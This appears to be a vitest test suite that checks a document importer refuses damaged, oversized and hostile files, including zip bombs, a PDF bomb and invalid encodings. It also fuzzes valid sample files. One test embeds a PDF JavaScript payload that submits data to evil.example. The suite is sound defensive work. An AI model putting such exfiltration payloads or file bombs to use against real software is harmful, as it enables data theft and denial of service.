// Bad input for the importers: damaged, hostile and oversized files each end in one clear
// sentence, store nothing, and never take the process down; fast-check then mutates valid small
// files (bit flips, truncations, overwrites) and every outcome must be text or an import error.
import { mkdtempSync, rmSync, truncateSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import fc from 'fast-check';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { DOCX_LIMITS, ImportFailure } from '../../electron/importers/extractText.ts';
import { importerForFileName } from '../../electron/importers/importerRegistry.ts';
import {
  importBytes, importDocument, ImportError, PARSE_MEMORY_LIMIT_MB, WORKER_MEMORY_MB,
} from '../../electron/importers/importDocument.ts';
import { SOURCE_FORMAT_LIST } from '../../electron/shared/sourceFormats.ts';
import type { ParseReport } from '../../electron/importers/importDocument.ts';
import { forkParseProcess } from '../../electron/importers/parseProcessLauncher.ts';
import type { ParseProcessLauncher } from '../../electron/importers/parseProcessLauncher.ts';
import { checkZipDirectory } from '../../electron/importers/zipDirectory.ts';
import { createHandlers, dispatchRequest } from '../../electron/services/crosscheckHandlers.ts';
import type { Handlers } from '../../electron/services/crosscheckHandlers.ts';
import { MAX_IMPORT_BYTES } from '../../electron/shared/ipcContract.ts';
import { CrosscheckStore } from '../../electron/store/crosscheckStore.ts';
import { databaseChecksum } from './databaseChecksum.ts';
import { minimalDocx, minimalPdf } from '../fixtures/documentFiles.ts';
import { docxBomb, docxWithManyEntries, pdfBomb, pdfWithJavaScript } from './hostileFiles.ts';

const utf8 = (s: string) => new TextEncoder().encode(s);
const MB = 1024 * 1024;

let dir: string;
let store: CrosscheckStore;
let handlers: Handlers;
let storyId: string;
let docx: Uint8Array;
const pdf = minimalPdf(['Three people lost their lives in the attack.', 'About 1,300 kilometers from the border.'], 'Wire');
const html = utf8('<!doctype html><html><head><title>Kupol</title></head><body><h1>Plant hit</h1><p>Three killed, 45&nbsp;injured.</p></body></html>');
const txt = utf8('Three killed in Izhevsk.\n45 injured, six seriously.\n');

beforeAll(async () => {
  dir = mkdtempSync(join(tmpdir(), 'crosscheck-bad-input-'));
  store = CrosscheckStore.open(join(dir, 'crosscheck.db'));
  handlers = createHandlers({ store });
  storyId = store.createStory({ title: 'Drone attack' }).id;
  docx = await minimalDocx(['Three killed in drone attack', 'Six of the 45 injured are in serious condition.']);
});
afterAll(() => {
  store.close();
  rmSync(dir, { recursive: true, force: true });
});

/** Imports through the same dispatch as IPC and the preview host; returns the refusal message
 *  after checking that nothing in the library changed. */
async function refusal(fileName: string, bytes: Uint8Array, using: Handlers = handlers): Promise<string> {
  const before = databaseChecksum(store.db);
  const result = await dispatchRequest(using, 'sources.importFile', { fileName, dataBase64: Buffer.from(bytes).toString('base64'), storyId });
  expect(databaseChecksum(store.db)).toBe(before);
  if (result.ok) throw new Error(`${fileName} was imported, expected a refusal`);
  expect(result.error.code).toBe('import-failed');
  expect(result.error.message).not.toMatch(/\n|\bat \w|\.ts\b|Error:/);
  return result.error.message;
}

describe('damaged files', () => {
  it.each([0.1, 0.5, 0.9])('refuses a .docx cut at %d of its length', async (share) => {
    expect(await refusal('report.docx', docx.subarray(0, Math.floor(docx.length * share)))).toBe(
      'report.docx could not be read: it is not a valid Word document (.docx) — it may be damaged or incomplete.',
    );
  });

  it('refuses a .docx whose zip directory is scrambled', async () => {
    const bytes = docx.slice();
    const directory = Buffer.from(bytes).lastIndexOf(Buffer.from([0x50, 0x4b, 0x01, 0x02]));
    bytes.fill(0xa5, directory, directory + 40);
    expect(await refusal('report.docx', bytes)).toMatch(/^report\.docx could not be read: it is not a valid Word document \(\.docx\) — it may be damaged/);
  });

  it('refuses a .docx that is a valid zip without a Word document inside', async () => {
    const notWord = (await import('jszip')).default();
    notWord.file('hello.txt', 'not a document');
    expect(await refusal('report.docx', await notWord.generateAsync({ type: 'uint8array' }))).toMatch(/it is not a valid Word document/);
  });

  it.each([60, 200, 400])('refuses a PDF cut after %d bytes', async (length) => {
    expect(await refusal('wire.pdf', pdf.subarray(0, length))).toMatch(
      /^wire\.pdf could not be read: (it is not a valid PDF document — it may be damaged or incomplete|it contains no selectable text \(it may be a scanned image\)|its text could not be extracted — the PDF may be damaged)\.$/,
    );
  });

  it('refuses a PDF whose objects are overwritten with noise', async () => {
    const bytes = pdf.slice();
    for (let at = 20; at < bytes.length - 30; at += 3) bytes[at] = 0x80 + (at % 100);
    expect(await refusal('wire.pdf', bytes)).toMatch(/^wire\.pdf could not be read: it (is not a valid PDF|contains no selectable text)/);
  });

  it('reads what it can of an HTML page cut mid-tag, and refuses one with binary in it', async () => {
    const cut = await importBytes('page.html', html.subarray(0, html.indexOf(utf8('45')[0]!) + 10));
    expect(cut.text).toContain('Plant hit');
    expect(await refusal('page.html', new Uint8Array([...html.subarray(0, 40), 0, 0, 1, 2, ...html.subarray(40)]))).toBe(
      'page.html could not be read: it looks like a binary file, not an HTML page.',
    );
  });
});

describe('hostile files', () => {
  it('refuses a zip bomb from its directory, before unpacking anything', async () => {
    const bomb = docxBomb(300, true);
    expect(bomb.length).toBeLessThan(MB); // 300 MB of content in under a megabyte
    expect(() => checkZipDirectory(bomb, DOCX_LIMITS)).toThrow(/more than 256 MB/);
    const started = performance.now();
    expect(await refusal('bomb.docx', bomb)).toBe(
      "bomb.docx could not be read: it would unpack to more than 256 MB, far more than any document's text needs (it may be a zip bomb).",
    );
    console.log(`zip bomb (${(bomb.length / 1024).toFixed(0)} KB → 300 MB declared) refused in ${Math.round(performance.now() - started)} ms`);
  });

  it('refuses an archive that lists more files than any document has', async () => {
    expect(await refusal('many.docx', docxWithManyEntries(DOCX_LIMITS.maxEntries + 1))).toBe(
      `many.docx could not be read: it lists ${DOCX_LIMITS.maxEntries + 1} files inside, more than the ${DOCX_LIMITS.maxEntries} allowed.`,
    );
  });

  it('refuses a bomb whose directory lies about its size, after inflating only past the lie', async () => {
    const liar = docxBomb(200, false);
    expect(checkZipDirectory(liar, DOCX_LIMITS).uncompressedBytes).toBeLessThan(MB);
    const rssBefore = process.memoryUsage().rss;
    const started = performance.now();
    expect(await refusal('liar.docx', liar)).toBe(
      'liar.docx could not be read: it unpacks to more than its own table of contents says (it may be a zip bomb).',
    );
    // The parse ran in its own process, and even there the 200 MB were never held at once.
    expect(process.memoryUsage().rss - rssBefore).toBeLessThan(100 * MB);
    console.log(`lying zip bomb (claims 1.2 KB, unpacks to 200 MB) refused in ${Math.round(performance.now() - started)} ms, ` +
      `process grew ${((process.memoryUsage().rss - rssBefore) / MB).toFixed(0)} MB`);
  });

  it('stops a 4 MB PDF whose page inflates to 4 GiB at the memory limit, outside the app', async () => {
    const bomb = await pdfBomb(4);
    expect(bomb.length).toBeLessThan(5 * MB);
    let report: ParseReport | undefined;
    const reporting = createHandlers({ store, importFile: (name, bytes) => importBytes(name, bytes, { onParseReport: (r) => (report = r) }) });
    const appRssBefore = process.memoryUsage.rss();
    let appRssPeak = appRssBefore;
    const sampler = setInterval(() => (appRssPeak = Math.max(appRssPeak, process.memoryUsage.rss())), 50);
    const started = performance.now();
    try {
      expect(await refusal('bomb.pdf', bomb, reporting)).toBe(
        `bomb.pdf could not be read: this PDF expands to more than ${PARSE_MEMORY_LIMIT_MB} MB when opened, so Crosscheck stopped reading it. ` +
          'If it opens normally in another program, save a fresh copy from there and import that.',
      );
    } finally {
      clearInterval(sampler);
    }
    const seconds = (performance.now() - started) / 1000;
    console.log(`PDF bomb (${(bomb.length / MB).toFixed(1)} MB → 4 GiB inflated) refused in ${seconds.toFixed(1)} s; ` +
      `parsing process peaked at ${report?.peakRssMb} MB RSS (limit ${PARSE_MEMORY_LIMIT_MB} MB), this process grew ${((appRssPeak - appRssBefore) / MB).toFixed(0)} MB`);
    // The refusal above is the memory limit's, not the 90 s time limit's that stopped it before at
    // about 12 GB; how many seconds that took is printed, not asserted: it is 5-7 s on a quiet
    // machine and over 20 s on a loaded one.
    // One 25 ms sample past the limit, plus one doubling copy of pdf.js's stream buffer at most.
    // The parse stops once a sample is over the limit; the peak it reports is rounded to whole MB,
    // so a sample 0.3 MB over reads as the limit itself (seen once in CI: 1536 against 1536).
    expect(report?.peakRssMb).toBeGreaterThanOrEqual(PARSE_MEMORY_LIMIT_MB);
    expect(report?.peakRssMb).toBeLessThan(PARSE_MEMORY_LIMIT_MB * 1.5);
    expect(appRssPeak - appRssBefore).toBeLessThan(200 * MB);
  }, 180_000);

  it('parses one file at a time, so two bombs cannot each take the memory limit at once', async () => {
    let live = 0;
    let mostAtOnce = 0;
    const counting: ParseProcessLauncher = (entry) => {
      const child = forkParseProcess(entry);
      live++;
      mostAtOnce = Math.max(mostAtOnce, live);
      child.onExit(() => live--);
      return child;
    };
    const docs = await Promise.all(['a', 'b', 'c'].map((n) => importBytes(`${n}.txt`, utf8(`text of ${n}`), { launch: counting })));
    expect(docs.map((d) => d.text)).toEqual(['text of a', 'text of b', 'text of c']);
    expect(mostAtOnce).toBe(1);
  });

  it('runs the parser under a heap limit: a parse that needs more memory is stopped, not the app', async () => {
    // A 23 MB page: fine for the default worker heap, too much for a 24 MB one that still reads a
    // small page. The limit is what stops it, and the caller gets a sentence.
    const big = utf8('<p>Three <b>killed</b> in Izhevsk.</p>\n'.repeat(600_000));
    expect((await importBytes('small.html', utf8('<p>45 injured</p>'), { memoryMb: 24 })).text).toBe('45 injured');
    await expect(importBytes('big.html', big, { memoryMb: 24 })).rejects.toThrow(
      'big.html could not be read: it needs more memory to read than Crosscheck allows.',
    );
  });

  it('checks a 300 MB file\'s size before reading a byte of it', async () => {
    const path = join(dir, 'archive-dump.pdf');
    writeFileSync(path, '');
    truncateSync(path, 300 * MB); // sparse: takes no disk, and reading it would take 300 MB of memory
    const rssBefore = process.memoryUsage().rss;
    await expect(importDocument(path)).rejects.toThrow('archive-dump.pdf could not be read: it is larger than the 50 MB limit.');
    expect(process.memoryUsage().rss - rssBefore).toBeLessThan(50 * MB);
  });

  it('refuses file data over 50 MB at the door, before decoding it', async () => {
    const result = await dispatchRequest(handlers, 'sources.importFile', { fileName: 'big.txt', dataBase64: 'A'.repeat(Math.ceil(MAX_IMPORT_BYTES / 3) * 4 + 4) });
    expect(result).toMatchObject({ ok: false, error: { code: 'invalid-request', message: expect.stringContaining('larger than the 50 MB limit') } });
  });

  it.each([
    ['a PNG renamed to .txt', 'photo.txt', new Uint8Array([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0, 0, 0, 0x0d, 0x49, 0x48, 0x44, 0x52])],
    ['a NUL far past the first block', 'late.txt', new Uint8Array([...new Uint8Array(200_000).fill(0x61), 0, 0x61])],
    ['control bytes with no NUL', 'controls.md', new Uint8Array(Array.from({ length: 400 }, (_, i) => (i % 3 === 0 ? 0x01 + (i % 7) : 0x41)))],
  ])('refuses binary bytes in a text file: %s', async (_label, name, bytes) => {
    expect(await refusal(name, bytes)).toMatch(/could not be read: it looks like a binary file, not a text file\.$/);
  });

  it.each([
    ['Latin-1', [0x43, 0x61, 0x66, 0xe9]],
    ['an overlong encoding', [0x41, 0xc0, 0x80]],
    ['an encoded surrogate', [0x41, 0xed, 0xa0, 0x80]],
    ['a sequence cut short', [0x41, 0xe2, 0x82]],
  ])('refuses invalid UTF-8: %s', async (_label, bytes) => {
    expect(await refusal('notes.txt', new Uint8Array(bytes))).toBe('notes.txt could not be read: it is not UTF-8 text (save it as UTF-8 and import it again).');
  });

  it('reads the text of a PDF that carries JavaScript, without running it', async () => {
    const script = 'app.alert("pwned"); this.submitForm("https://evil.example/steal"); xhr.open("GET", "https://evil.example/beacon")';
    const bytes = pdfWithJavaScript('Casualty figures from the regional governor.', script);
    const before = databaseChecksum(store.db);
    const result = await dispatchRequest(handlers, 'sources.importFile', { fileName: 'scripted.pdf', dataBase64: Buffer.from(bytes).toString('base64') });
    expect(result).toMatchObject({ ok: true, value: { text: 'Casualty figures from the regional governor.', fileType: 'pdf' } });
    // The script is neither run (pdf.js has no script engine outside its viewer's sandbox, which
    // getDocument never starts) nor carried into the source text.
    expect(JSON.stringify(result)).not.toMatch(/pwned|evil\.example|app\.alert/);
    expect(databaseChecksum(store.db)).not.toBe(before);
  });
});

describe('limits', () => {
  it('gives every parser a time limit and stops one that runs past it', async () => {
    for (const format of SOURCE_FORMAT_LIST) expect(format.parseTimeLimitMs).toBeGreaterThan(0);
    const samples: [string, Uint8Array][] = [['a.txt', txt], ['a.md', txt], ['a.html', html], ['a.docx', docx], ['a.pdf', pdf]];
    for (const [name, bytes] of samples) {
      expect(importerForFileName(name)).toBeDefined();
      await expect(importBytes(name, bytes, { timeoutMs: 1 })).rejects.toThrow(`${name} could not be read: reading it took longer than 0 seconds.`);
    }
    console.log(`limits: file ${MAX_IMPORT_BYTES / MB} MB; docx unpacked ${DOCX_LIMITS.maxUncompressedBytes / MB} MB / ${DOCX_LIMITS.maxEntries} entries; ` +
      `parsing process ${PARSE_MEMORY_LIMIT_MB} MB, its parser's heap ${WORKER_MEMORY_MB} MB; time ${SOURCE_FORMAT_LIST.map((f) => `${f.id} ${f.parseTimeLimitMs / 1000} s`).join(', ')}`);
  });
});

// ---- fuzzing ------------------------------------------------------------------------------------

type Damage = { kind: 'flip'; bits: { at: number; bit: number }[] } | { kind: 'truncate'; at: number } | { kind: 'overwrite'; at: number; bytes: Uint8Array };
const damage: fc.Arbitrary<Damage> = fc.oneof(
  fc.record({ kind: fc.constant('flip' as const), bits: fc.array(fc.record({ at: fc.nat(), bit: fc.integer({ min: 0, max: 7 }) }), { minLength: 1, maxLength: 12 }) }),
  fc.record({ kind: fc.constant('truncate' as const), at: fc.nat() }),
  fc.record({ kind: fc.constant('overwrite' as const), at: fc.nat(), bytes: fc.uint8Array({ minLength: 1, maxLength: 24 }) }),
);
function applyDamage(original: Uint8Array, change: Damage): Uint8Array {
  if (change.kind === 'truncate') return original.subarray(0, change.at % original.length);
  const bytes = original.slice();
  if (change.kind === 'flip') for (const { at, bit } of change.bits) bytes[at % bytes.length]! ^= 1 << bit;
  else bytes.set(change.bytes.subarray(0, Math.max(0, bytes.length - (change.at % bytes.length))), change.at % bytes.length);
  return bytes;
}

const fuzzCounts = new Map<string, { inProcess: number; parseProcess: number; ok: number; refused: number }>();
afterAll(() => {
  console.log(`importer fuzz (0 crashes):\n${[...fuzzCounts].map(([name, c]) =>
    `  ${name.padEnd(12)} ${c.inProcess} parser runs in-process + ${c.parseProcess} through the parsing process; ${c.ok} read, ${c.refused} refused`).join('\n')}`);
});

const withinSeconds = <T>(promise: Promise<T>, seconds: number) =>
  Promise.race([promise, new Promise<never>((_, reject) => setTimeout(() => reject(new Error(`hung for ${seconds} s`)), seconds * 1000))]);

describe('fuzzed damage to valid small files', () => {
  const seeds = (): [string, Uint8Array][] => [['wire.txt', txt], ['page.html', html], ['report.docx', docx], ['brief.pdf', pdf]];

  it.each(['wire.txt', 'page.html', 'report.docx', 'brief.pdf'])('%s: every parser outcome is text or a stated reason', async (name) => {
    const seed = seeds().find(([n]) => n === name)![1];
    const importer = importerForFileName(name)!;
    const count = { inProcess: 0, parseProcess: 0, ok: 0, refused: 0 };
    fuzzCounts.set(name, count);
    // In-process, the parser itself: any exception but ImportFailure is a bug the parsing process would hide.
    await fc.assert(
      fc.asyncProperty(damage, async (change) => {
        count.inProcess++;
        try {
          const extracted = await withinSeconds(importer.extract(applyDamage(seed, change)), 20);
          expect(typeof extracted.text).toBe('string');
          count.ok++;
        } catch (error) {
          if (!(error instanceof ImportFailure)) throw error;
          count.refused++;
        }
      }),
      { numRuns: 150 },
    );
    // The whole path with its process, time and memory limits: a Result-ready ImportError at worst.
    await fc.assert(
      fc.asyncProperty(damage, async (change) => {
        count.parseProcess++;
        try {
          const doc = await importBytes(name, applyDamage(seed, change));
          expect(doc.text.trim()).not.toBe('');
          count.ok++;
        } catch (error) {
          expect(error).toBeInstanceOf(ImportError);
          expect((error as Error).message).toMatch(new RegExp(`^${name.replace('.', '\\.')} could not be read: [^\\n]+\\.$`));
          count.refused++;
        }
      }),
      { numRuns: 10 },
    );
  });
});
